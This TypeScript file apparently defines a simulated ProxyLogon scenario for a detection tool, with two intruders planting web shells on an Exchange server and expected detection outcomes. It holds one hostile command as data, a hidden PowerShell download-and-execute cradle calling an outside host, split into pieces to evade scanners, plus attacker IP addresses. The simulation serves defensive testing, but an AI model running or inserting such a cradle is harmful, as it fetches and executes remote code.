/* One server, two intruders who came the same way and know nothing of each other: the first before the update from
 * addresses that were published for the campaign, the second days later, with a downloader of criminals.
 *
 * Each writes a shell of its own; both run in the same process of the web server. Source of the addresses and of the
 * control server: knowledge/actors. */

import {dayMillis} from "../stamps.ts"
import {breakIn} from "./proxylogon.ts"
import type {Scenario} from "./scenario.ts"

/** In pieces: a scanner should not take this source for the real thing. */
const downloader = [
  "powershell.exe -nop -w hidden -c I",
  "EX (New-Object Net.WebClient).Download",
  "String('http://p.estonine.com/p?e')",
].join("")

export const twoIntruders: Scenario = {
  name: "two-intruders",
  says: "two intruders use ProxyLogon, days apart, each with a web shell of its own",
  start: "2021-02-27",
  build: "15.1.2176.2",
  outcomes: [
    {
      name: "both",
      says: "each breaks in and looks around; the second loads a miner",
      expected: {
        probed: "confirmed",
        exploited: "confirmed",
        persisted: "confirmed",
        acted: "confirmed",
        "data taken": "none seen",
      },
    },
  ],
  play(scene, from, until) {
    const second = Math.max(from + (until - from) / 2, until - 2 * dayMillis)
    breakIn(scene, from, Math.min(from + dayMillis, second), "used", {
      clients: ["103.77.192.219", "104.140.114.110"],
    })
    breakIn(scene, second, until, "used", {commands: [["download", "acted", downloader]]})
  },
}
